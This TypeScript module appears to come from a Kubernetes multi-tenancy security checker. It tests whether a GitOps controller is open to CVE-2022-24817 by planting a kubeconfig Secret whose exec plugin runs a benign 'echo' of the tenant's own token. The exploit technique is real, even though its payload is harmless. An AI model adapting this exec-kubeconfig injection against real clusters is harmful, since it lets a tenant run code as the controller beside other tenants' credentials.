import { configMapType } from '../../../../kube/core-resources.ts';
import type { KubeObject } from '../../../../kube/object.ts';
import { accountToken } from '../../account-token.ts';
import { untried } from '../../outcome.ts';
import type { Attack } from '../../attack.ts';
import { typeOf } from '../../target.ts';
import type { World } from '../../world.ts';
import { deployAttack, kustomization } from './kustomization.ts';
import { withoutOwnSource } from './own-source.ts';

const name = 'kubeconfig-exec';
/** What says that the program was not run. */
const refusal = /\b(refused|not allowed|not permitted|forbidden|disabled)\b.*\bexec\b/i;

export const kubeconfigExec: Attack = {
  id: 'gitops/kubeconfig-exec',
  title: 'gives a kubeconfig that runs a program (CVE-2022-24817)',
  why: 'the program would run as the controller, beside the credentials of all tenants',
  remedy: 'do not set --insecure-kubeconfig-exec',
  async attempt(world) {
    const none = await withoutOwnSource(world);
    if (none) return none;
    await makeSecret(world);
    const spec = {
      kubeConfig: { secretRef: { name } },
      postBuild: { substitute: { namespace: world.attacker.namespace, name } },
    };
    const outcome = await deployAttack(world, kustomization(world, name, spec));
    // Another reason to fail says nothing about the program.
    const isOther = outcome.verdict === 'refused' && !refusal.test(outcome.detail);
    return isOther ? untried(outcome.detail) : outcome;
  },
};

/** Its program prints a token of the attacker's own account: if it is run, the deployment works. */
async function makeSecret(world: World): Promise<void> {
  const { client } = world.attacker.deployer;
  const config = {
    apiVersion: 'v1',
    kind: 'Config',
    'current-context': 'check',
    clusters: [
      {
        name: 'check',
        cluster: {
          server: 'https://kubernetes.default.svc',
          'certificate-authority-data': Buffer.from(await clusterCa(world)).toString('base64'),
        },
      },
    ],
    contexts: [{ name: 'check', context: { cluster: 'check', user: 'check' } }],
    users: [{ name: 'check', user: { exec: printing(await accountToken(world)) } }],
  };
  const secret = {
    apiVersion: 'v1',
    kind: 'Secret',
    metadata: { name, namespace: world.attacker.namespace },
    data: { value: Buffer.from(JSON.stringify(config)).toString('base64') },
  };
  const type = await typeOf(client, secret);
  await client.apply(type, secret, { fieldManager: 'tenantry-check', force: true });
}

const execApi = 'client.authentication.k8s.io/v1';

const printing = (token: string) => ({
  apiVersion: execApi,
  interactiveMode: 'Never',
  command: 'echo',
  args: [JSON.stringify({ apiVersion: execApi, kind: 'ExecCredential', status: { token } })],
});

/** As every namespace has it. */
async function clusterCa({ admin, attacker: { namespace } }: World): Promise<string> {
  const key = { namespace, name: 'kube-root-ca.crt' };
  const { data } = await admin.get<KubeObject & { data?: Record<string, string> }>(
    configMapType,
    key,
  );
  return data?.['ca.crt'] ?? '';
}
